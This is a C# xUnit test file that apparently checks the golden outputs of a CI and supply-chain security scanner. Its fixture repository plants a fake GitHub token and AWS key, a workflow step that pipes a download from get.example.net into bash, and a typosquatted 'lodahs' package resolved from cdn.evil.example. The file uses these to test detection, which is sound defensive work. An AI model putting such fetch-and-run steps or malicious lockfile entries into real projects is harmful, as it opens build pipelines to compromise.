using System.Text.RegularExpressions;
using PipeWatch.Cli;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Sinks;

/// <summary>
/// The JSON Lines, SARIF and GitLab outputs of one real <c>scan</c> and one real <c>ingest</c>, compared byte for byte with
/// <c>Sinks/Expected</c>, so a refactor cannot change a fingerprint, title, explanation or location unnoticed. Only what differs
/// between runs is replaced: the temp folder's path and the tool's version. (Detection times come from the injected clock.)
/// </summary>
public sealed partial class GoldenOutputTests : IDisposable
{
    private const string Token = "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";
    private const string AwsKey = "AKIAQWERTYUIOPASDFGH";
    private static readonly Golden Expected = new("Sinks");
    private readonly TempFolder _temp = new();

    public static TheoryData<string, string> Formats => new()
    {
        { "json", "jsonl" },
        { "sarif", "sarif" },
        { "gitlab-secret-detection", "gitlab.json" },
        { "ecs", "ecs.jsonl" },
        { "ocsf", "ocsf.jsonl" },
        { "cef", "cef.log" },
    };

    [Theory]
    [MemberData(nameof(Formats))]
    public async Task A_scan_of_a_leak_a_tampered_workflow_and_a_lockfile_change_matches_its_golden_file(string format, string extension)
    {
        using var repo = AttackedRepository();

        var result = await new CliRunner(repo.Path).RunAsync("scan", "--format", format);

        Assert.Equal(1, result.ExitCode);
        Expected.Verify($"scan.{extension}", Normalize(result.Output, repo.Path));
    }

    [Theory]
    [MemberData(nameof(Formats))]
    public async Task An_ingest_of_the_samples_and_a_ci_log_with_a_secret_matches_its_golden_file(string format, string extension)
    {
        // Copied with their layout, so the outputs name the same relative paths wherever the checkout is.
        Copy(Path.Combine(Corpus.RepositoryRoot, "samples", "demo"), _temp.File("samples/demo"));
        Copy(Path.Combine(Corpus.RepositoryRoot, "samples", "attack"), _temp.File("samples/attack"));
        Directory.CreateDirectory(_temp.File("logs_13848234567"));
        File.Copy(Path.Combine(Corpus.RepositoryRoot, "tests", "PipeWatch.Tests", "Sources", "JobLogs", "Fixtures", "logs_13848234567", "0_build.txt"),
            _temp.File("logs_13848234567/0_build.txt"));

        var result = await new CliRunner(_temp.Path).RunAsync(
            "ingest", "samples/demo", "samples/attack", "logs_13848234567/0_build.txt", "--store", _temp.File("store.db"), "--format", format);

        Assert.Equal(1, result.ExitCode);
        Expected.Verify($"ingest.{extension}", Normalize(result.Output, _temp.Path));
    }

    [Fact]
    public void Normalizing_replaces_the_temp_folder_and_the_tool_version_and_nothing_else()
    {
        var root = _temp.Path;
        var text = $$"""
            {"uri": "file://{{root}}/", "file": "{{root}}/a.env", "semanticVersion": "{{PipeWatchApp.Version}}", "version": "{{PipeWatchApp.Version}}",
             "title": "version {{PipeWatchApp.Version}} of {{root}}x"}
            """;

        Assert.Equal(
            """
            {"uri": "file://{root}/", "file": "{root}/a.env", "semanticVersion": "{version}", "version": "{version}",
             "title": "version {{PipeWatchApp.Version}} of {root}x"}
            """.Replace("{{PipeWatchApp.Version}}", PipeWatchApp.Version, StringComparison.Ordinal),
            Normalize(text, root));
    }

    /// <summary>
    /// A repository whose history adds a leaked token and an AWS key, a workflow step that pipes a download into bash, and a
    /// lockfile entry resolved from an outside host, after a clean first commit.
    /// </summary>
    private static TestRepository AttackedRepository()
    {
        // A fixed folder name: scan reports it as the repository, and fingerprints include it.
        var repo = new TestRepository(name: "shop");
        repo.Write("README.md", "# shop\n")
            .Write(".github/workflows/ci.yml", Workflow)
            .Write("package.json", PackageJson)
            .Write("package-lock.json", Lockfile(string.Empty))
            .Commit("shop: first version");
        repo.Write("ci/deploy.env", $"REGION=eu-west-1\nGH_TOKEN={Token}\n")
            .Write("config/aws.ini", $"[default]\naws_access_key_id = {AwsKey}\n")
            .Commit("deploy settings");
        repo.Write(".github/workflows/ci.yml", Workflow.Replace("run: make build", "run: curl -fsSL https://get.example.net/i.sh | bash", StringComparison.Ordinal))
            .Commit("faster build");
        repo.Write("package-lock.json", Lockfile("""
                ,
                    "node_modules/lodahs": {
                      "version": "4.17.21",
                      "resolved": "https://cdn.evil.example/lodahs-4.17.21.tgz",
                      "integrity": "sha512-2lPqZJzZbZoZ7D8vR5sGyqj3pRv1lQ7ihm5VJ+oIRzZUhn8PdXr1uLOdYHbSgOUv1y6vH2v4CYhs1yQbUi8QxQ=="
                    }
                """))
            .Commit("bump lockfile", author: "Eve Intruder <eve@example.net>");
        return repo;
    }

    private const string Workflow = """
        name: ci
        on: [push, pull_request]
        permissions:
          contents: read
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
              - name: Build
                run: make build
              - name: Test
                run: make test

        """;

    private const string PackageJson = """
        {
          "name": "shop",
          "version": "1.0.0",
          "dependencies": {
            "express": "^4.18.2"
          }
        }

        """;

    private static string Lockfile(string extra) => """
        {
          "name": "shop",
          "version": "1.0.0",
          "lockfileVersion": 3,
          "requires": true,
          "packages": {
            "": {
              "name": "shop",
              "version": "1.0.0",
              "dependencies": {
                "express": "^4.18.2"
              }
            },
            "node_modules/express": {
              "version": "4.18.2",
              "resolved": "https://registry.npmjs.org/express/-/express-4.18.2.tgz",
              "integrity": "sha512-5/PsL6iGPdfQ/lKM1UuielYgv3BUoJfz1aUwU9vHZ+J7gyvwdQXFEBIEIaxeGf0GIcreATNyBExtalisDbuMqQ==",
              "dependencies": {
                "ms": "2.1.3"
              }
            },
            "node_modules/ms": {
              "version": "2.1.3",
              "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz",
              "integrity": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA=="
            }
        """ + extra + """

          }
        }

        """;

    /// <summary>The temp folder's path (also inside <c>file://</c> URIs) becomes <c>{root}</c>; the tool's version in a version field becomes <c>{version}</c>.</summary>
    private static string Normalize(string output, string root)
    {
        var text = output.Replace(root, "{root}", StringComparison.Ordinal);
        return VersionField().Replace(text, m => m.Groups["value"].Value == PipeWatchApp.Version ? m.Value.Replace(PipeWatchApp.Version, "{version}", StringComparison.Ordinal) : m.Value);
    }

    [GeneratedRegex("\"(?:semanticVersion|version)\": ?\"(?<value>[^\"]*)\"")]
    private static partial Regex VersionField();

    private static void Copy(string from, string to)
    {
        Directory.CreateDirectory(to);
        foreach (var file in Directory.GetFiles(from)) File.Copy(file, Path.Combine(to, Path.GetFileName(file)));
    }

    public void Dispose() => _temp.Dispose();
}
